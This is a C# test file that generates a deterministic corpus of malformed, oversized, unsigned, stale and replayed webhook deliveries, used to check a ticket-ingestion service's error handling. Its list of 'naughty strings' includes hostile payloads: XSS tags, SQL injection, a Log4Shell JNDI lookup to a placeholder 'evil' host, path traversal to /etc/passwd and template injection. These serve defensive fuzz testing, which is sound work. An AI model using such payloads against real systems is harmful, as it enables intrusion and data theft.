using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;

namespace Agents.Ingest.Tests;

/// <summary>One generated bad (or odd) delivery and the answers it may get.</summary>
public sealed record BadCase(string Name, string Source, Func<Uri, HttpRequestMessage> Build, int[] Allowed);

/// <summary>
/// Generates the bad-input corpus: truncated JSON, wrong types, naughty strings in every field, invalid UTF-8,
/// huge numbers, deep nesting, wrong signatures, stale timestamps, replayed ids, wrong content types, oversize.
/// Deterministic (fixed seed), so a failure names a case that can be run again.
/// </summary>
public static class BadInputCorpus
{
    private static readonly (string Source, string Fixture)[] Samples =
    [
        ("generic", "generic_ticket_created.json"), ("zendesk", "zendesk_trigger.json"), ("zendesk", "zendesk_event_ticket_created.json"),
        ("freshdesk", "freshdesk_ticket_created.json"), ("groove", "groove_ticket_started.json"), ("intercom", "intercom_conversation_user_created.json"),
        ("front", "front_inbound.json"), ("jira", "jira_issue_created.json"), ("jira", "jira_issue_created_adf.json"),
        ("github", "github_issues_opened.json"), ("hubspot", "hubspot_ticket_batch.json"),
    ];

    /// <summary>Strings that break naive code (after the Big List of Naughty Strings' categories).</summary>
    public static readonly string[] NaughtyStrings =
    [
        "", " ", "\t\r\n", "null", "undefined", "NaN", "true", "0", "-1", "1e309", "0x0", "\u0000", "\u0000\u0001\u0007\u001b[31mred",
        "\ud800", "\udfff\ud800", "\u202e\u0644\u0627 RTL", "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤ ̖t̝͕̳̣̻̪͞h̼͓̲̦̳̘̲e͇̣̰̦̬͎ ̢̼̻̱̘h͚͎͙̜̣̲ͅi̦̲̣̰̤v̻͍e̺̭̳̪̰-m̢iͅn̖̺̞̲̯̰d̵̼̟͙̩̼̘̳",
        "😀👩‍💻🏳️‍🌈", "𝕋𝕙𝕖 𝕢𝕦𝕚𝕔𝕜", "田中さんにあげて下さい", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
        "'; DROP TABLE ingest_quarantine; --", "\" OR 1=1 --", "${jndi:ldap://evil/a}", "{{7*7}}", "%s%s%n%x", "../../../../etc/passwd",
        "\\\\server\\share", "﻿BOM", "\u2028\u2029", "<!--", "]]>", "&#0;&#xD800;&amp;&nbsp;", new string('A', 70_000),
        string.Concat(Enumerable.Repeat("<b>", 5_000)), "Robert'); DROP TABLE Students;--",
    ];

    public static IReadOnlyList<BadCase> Generate()
    {
        var random = new Random(20261125);
        var cases = new List<BadCase>();
        var ok = new[] { 200, 202, 422 };

        // Truncated JSON: every sample cut at a dozen places.
        foreach (var (source, fixture) in Samples)
        {
            var body = Fixtures.Read(fixture).Trim();
            for (var i = 0; i < 12; i++)
            {
                var cut = body[..random.Next(0, body.Length - 1)];
                cases.Add(Signed($"truncated {fixture} at {cut.Length}", source, cut, [400]));
            }
        }

        // Naughty strings in every string field of the generic shape and in the ids and subjects of the others.
        string[] genericFields = ["id", "subject", "body", "priority", "status", "created_at", "updated_at"];
        foreach (var naughty in NaughtyStrings)
        {
            foreach (var field in genericFields)
            {
                var doc = JsonNode.Parse(Fixtures.Read("generic_ticket_created.json"))!;
                doc["ticket"]![field] = naughty;
                cases.Add(Signed($"naughty generic.{field} #{Array.IndexOf(NaughtyStrings, naughty)}", "generic", doc.ToJsonString(), ok));
            }
            var requester = JsonNode.Parse(Fixtures.Read("generic_ticket_created.json"))!;
            requester["ticket"]!["requester"]!["email"] = naughty;
            requester["ticket"]!["tags"] = new JsonArray(naughty, naughty);
            cases.Add(Signed($"naughty generic.requester/tags #{Array.IndexOf(NaughtyStrings, naughty)}", "generic", requester.ToJsonString(), ok));

            var zendesk = JsonNode.Parse(Fixtures.Read("zendesk_trigger.json"))!;
            zendesk["ticket_title"] = naughty;
            zendesk["ticket_description"] = naughty;
            zendesk["tags"] = naughty;
            cases.Add(Signed($"naughty zendesk #{Array.IndexOf(NaughtyStrings, naughty)}", "zendesk", zendesk.ToJsonString(), ok));

            var freshdesk = JsonNode.Parse(Fixtures.Read("freshdesk_ticket_created.json"))!;
            freshdesk["freshdesk_webhook"]!["ticket_description"] = naughty;
            freshdesk["freshdesk_webhook"]!["triggered_event"] = naughty;
            cases.Add(Signed($"naughty freshdesk #{Array.IndexOf(NaughtyStrings, naughty)}", "freshdesk", freshdesk.ToJsonString(), ok));
        }

        // Wrong types in every field of the generic ticket and at the top of every sample.
        JsonNode?[] wrongValues = [null, 42, 1.5, true, new JsonArray(1, 2), new JsonObject { ["x"] = 1 }];
        foreach (var field in genericFields.Append("requester").Append("tags"))
        {
            foreach (var value in wrongValues)
            {
                var doc = JsonNode.Parse(Fixtures.Read("generic_ticket_created.json"))!;
                doc["ticket"]![field] = value?.DeepClone();
                cases.Add(Signed($"wrong type generic.{field}={value?.ToJsonString() ?? "null"}", "generic", doc.ToJsonString(), ok));
            }
        }
        foreach (var (source, _) in Samples)
            foreach (var top in new[] { "null", "42", "\"text\"", "[]", "{}", "[1,2]", "[{}]", "true" })
                cases.Add(Signed($"top-level {top} to {source}", source, top, ok));

        // Huge numbers where ids and dates go.
        foreach (var huge in new[] { "1e400", "-1e400", "123456789012345678901234567890123456789", "0.0000000000000000000001", "9223372036854775808", "-0" })
        {
            cases.Add(Signed($"huge generic id {huge}", "generic", "{\"ticket\":{\"id\":" + huge + ",\"created_at\":" + huge + ",\"updated_at\":" + huge + "}}", ok));
            cases.Add(Signed($"huge hubspot {huge}", "hubspot", "[{\"eventId\":" + huge + ",\"objectId\":" + huge + ",\"occurredAt\":" + huge + "}]", ok));
            cases.Add(Signed($"huge intercom {huge}", "intercom", "{\"topic\":\"conversation.user.created\",\"id\":\"n\",\"data\":{\"item\":{\"type\":\"conversation\",\"id\":" + huge + ",\"created_at\":" + huge + "}}}", ok));
        }

        // Escaped lone surrogates (valid JSON, no valid text) and table cells that are not nodes: found by
        // ParserFuzzTests, they threw while reading, a 5xx for a signed delivery.
        cases.Add(Signed("escaped lone surrogates", "generic", """{"ticket":{"id":"T-\ud800","subject":"\udfff","body":"a \ud83d b","tags":["\udc00"]}}""", ok));
        cases.Add(Signed("ADF table row of strings", "jira", Fixtures.Read("jira_issue_created.json").Replace("\"App closes immediately.\"",
            """{"type":"doc","content":[{"type":"table","content":[{"type":"tableRow","content":["cell",7,[]]}]}]}"""), ok));

        // Deep nesting: past the parser's limit is malformed; shallower is just an odd payload.
        foreach (var depth in new[] { 65, 100, 1_000, 10_000, 100_000 })
        {
            cases.Add(Signed($"nested arrays {depth}", "generic", new string('[', depth) + new string(']', depth), [400]));
            cases.Add(Signed($"nested objects {depth}", "jira",
                string.Concat(Enumerable.Repeat("{\"a\":", depth)) + "1" + new string('}', depth), [400]));
        }
        cases.Add(Signed("nested objects 30", "generic", string.Concat(Enumerable.Repeat("{\"ticket\":", 30)) + "{\"id\":\"deep\"}" + new string('}', 30), ok));

        // Invalid UTF-8 in otherwise valid deliveries.
        byte[][] invalid = [[0xC3, 0x28], [0xFF], [0xED, 0xA0, 0x80], [0xF8, 0x88, 0x80, 0x80, 0x80], [0xC0, 0xAF]];
        foreach (var (source, fixture) in Samples)
            foreach (var bad in invalid)
            {
                var bytes = Encoding.UTF8.GetBytes(Fixtures.Read(fixture));
                var at = Array.IndexOf(bytes, (byte)'"', 10) + 1;
                byte[] body = [.. bytes[..at], .. bad, .. bytes[at..]];
                cases.Add(new BadCase($"invalid UTF-8 {Convert.ToHexString(bad)} in {fixture}", source, baseAddress => SignedBytes(source, body, baseAddress), [400]));
            }

        // Wrong signatures, stale and future timestamps: refused before anything else.
        foreach (var (source, fixture) in Samples)
        {
            var body = Fixtures.Read(fixture);
            cases.Add(new BadCase($"wrong secret {source}", source, b => VendorRequests.Signed(source, body, b, secret: WrongSecret(source)), [401]));
            cases.Add(new BadCase($"signature of another body {source}", source, b =>
            {
                var request = VendorRequests.Signed(source, body, b);
                request.Content = new StringContent(body.Replace("a", "b"), Encoding.UTF8, "application/json");
                return request;
            }, source is "freshdesk" or "groove" ? [202, 200, 400, 422] : [401]));
            cases.Add(new BadCase($"no signature {source}", source, _ => new HttpRequestMessage(HttpMethod.Post, $"/webhooks/{source}")
            {
                Content = new StringContent(body, Encoding.UTF8, "application/json"),
            }, [401]));
            if (source is "generic" or "zendesk" or "front" or "hubspot")
            {
                cases.Add(new BadCase($"stale {source}", source, b => VendorRequests.Signed(source, body, b, at: DateTimeOffset.UtcNow.AddMinutes(-30)), [401]));
                cases.Add(new BadCase($"future {source}", source, b => VendorRequests.Signed(source, body, b, at: DateTimeOffset.UtcNow.AddHours(2)), [401]));
            }
        }

        cases.AddRange(AtlassianDocuments(ok));
        cases.AddRange(FrontChallenges());

        // Replayed ids: the same delivery again and again.
        var replayBody = "{\"type\":\"ticket.created\",\"ticket\":{\"id\":\"replayed-" + random.Next() + "\",\"subject\":\"again\"}}";
        for (var i = 0; i < 20; i++)
            cases.Add(Signed($"replayed generic delivery #{i}", "generic", replayBody, [200, 202], eventId: "msg_replayed_corpus"));

        // Wrong content types and an oversize body.
        foreach (var type in new[] { "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml", "" })
            cases.Add(new BadCase($"content type '{type}'", "generic", b =>
            {
                var request = VendorRequests.Signed("generic", Fixtures.Read("generic_ticket_created.json"), b);
                request.Content!.Headers.ContentType = type.Length == 0 ? null : System.Net.Http.Headers.MediaTypeHeaderValue.Parse(type);
                return request;
            }, [415]));
        cases.Add(Signed("oversize 2 MiB", "generic", "{\"ticket\":{\"id\":\"big\",\"body\":\"" + new string('x', 2 * 1024 * 1024) + "\"}}", [413]));
        cases.Add(Signed("empty body", "github", "", [400]));
        return cases;
    }

    /// <summary>Jira descriptions and comment bodies as broken, hostile or huge Atlassian documents: accepted with warnings.</summary>
    private static IEnumerable<BadCase> AtlassianDocuments(int[] ok)
    {
        string[] documents =
        [
            """{"type":"doc","content":"text"}""", """{"type":"doc","content":[1,"a",null,true,[]]}""", """{}""", """{"type":"doc","version":99}""",
            """{"type":"doc","content":[{"type":"paragraph","content":[{"type":"text","text":5},{"type":"text"},{"type":"text","text":"ok","marks":"bold"}]}]}""",
            """{"type":7,"content":[{"content":[{"type":"text","text":"no type"}]}]}""",
            """{"type":"doc","content":[{"type":"💥<script>","content":[{"type":"text","text":"x"}]}]}""",
            """{"type":"doc","content":[{"type":"orderedList","attrs":{"order":1e400},"content":[{"type":"listItem"}]},{"type":"date","attrs":{"timestamp":"never"}},{"type":"tableRow","content":5},{"type":"mention"},{"type":"emoji","attrs":5},{"type":"inlineCard","attrs":{"data":7}}]}""",
            string.Concat(Enumerable.Repeat("""{"type":"doc","content":[""", 29)) + """{"type":"text","text":"deep"}""" + string.Concat(Enumerable.Repeat("]}", 29)),
            """{"type":"doc","content":[""" + string.Join(",", Enumerable.Repeat("""{"type":"paragraph","content":[{"type":"text","text":"Lorem ipsum dolor sit amet."}]}""", 8_000)) + "]}",
            .. NaughtyStrings.Select(n => """{"type":"doc","content":[{"type":"paragraph","content":[{"type":"text","text":""" + JsonSerializer.Serialize(n) + "}]}]}"),
        ];
        var issue = Fixtures.Read("jira_issue_created_adf.json");
        var comment = Fixtures.Read("jira_comment_created_adf.json");
        for (var i = 0; i < documents.Length; i++)
        {
            var description = JsonNode.Parse(issue)!;
            description["issue"]!["fields"]!["description"] = JsonNode.Parse(documents[i]);
            yield return Signed($"ADF description #{i}", "jira", description.ToJsonString(), ok);
            var body = JsonNode.Parse(comment)!;
            body["comment"]!["body"] = JsonNode.Parse(documents[i]);
            yield return Signed($"ADF comment body #{i}", "jira", body.ToJsonString(), ok);
        }
        foreach (JsonNode? wrong in new JsonNode?[] { new JsonArray(1, 2), 42, true, "h1. wiki *markup*" })
        {
            var description = JsonNode.Parse(issue)!;
            description["issue"]!["fields"]!["description"] = wrong;
            yield return Signed($"description of the wrong type {wrong?.ToJsonString()}", "jira", description.ToJsonString(), ok);
        }
        // Past the parser's nesting limit a document is malformed like any other body.
        var tooDeep = string.Concat(Enumerable.Repeat("""{"type":"blockquote","content":[""", 40)) + "1" + string.Concat(Enumerable.Repeat("]}", 40));
        yield return Signed("ADF nested past the JSON limit", "jira", issue.Replace("\"version\": 1,", "\"version\": 1, \"deep\": " + tooDeep + ","), [400]);
    }

    /// <summary>Front's validation handshake: answered only when signed and fresh; every forgery is a 401.</summary>
    private static IEnumerable<BadCase> FrontChallenges()
    {
        var sync = Fixtures.Read("front_sync_challenge.json");
        yield return new BadCase("front challenge", "front", _ => VendorRequests.FrontChallenge("corpus-challenge"), [200]);
        yield return new BadCase("front challenge on an event", "front", _ => VendorRequests.FrontChallenge("corpus-challenge", Fixtures.Read("front_inbound.json")), [200]);
        yield return new BadCase("front challenge on malformed JSON", "front", _ => VendorRequests.FrontChallenge("corpus-challenge", "{\"type\":\"sync\","), [200]);
        yield return new BadCase("front challenge, wrong secret", "front", _ => VendorRequests.FrontChallenge("corpus-challenge", secret: WrongSecret("front")), [401]);
        yield return new BadCase("front challenge, stale", "front", _ => VendorRequests.FrontChallenge("corpus-challenge", at: DateTimeOffset.UtcNow.AddMinutes(-30)), [401]);
        yield return new BadCase("front challenge, future", "front", _ => VendorRequests.FrontChallenge("corpus-challenge", at: DateTimeOffset.UtcNow.AddHours(2)), [401]);
        yield return new BadCase("front challenge, legacy SHA-1", "front", _ =>
        {
            var request = VendorRequests.FrontLegacy(sync);
            request.Headers.Add("X-Front-Challenge", "corpus-challenge");
            return request;
        }, [401]);
        yield return new BadCase("front challenge, unsigned", "front", _ =>
        {
            var request = new HttpRequestMessage(HttpMethod.Post, "/webhooks/front") { Content = new StringContent(sync, Encoding.UTF8, "application/json") };
            request.Headers.Add("X-Front-Challenge", "corpus-challenge");
            return request;
        }, [401]);
    }

    private static string WrongSecret(string source) =>
        source == "generic" ? "whsec_" + Convert.ToBase64String(Encoding.UTF8.GetBytes("a-different-secret-of-32-bytes!!")) : "wrong-" + source;

    private static BadCase Signed(string name, string source, string body, int[] allowed, string? eventId = null) =>
        new(name, source, baseAddress => VendorRequests.Signed(source, body, baseAddress, eventId), allowed);

    /// <summary>Signed over the exact bytes: the signature is good, the text is not.</summary>
    private static HttpRequestMessage SignedBytes(string source, byte[] body, Uri baseAddress) =>
        VendorRequests.SignedBytes(source, body, baseAddress);
}
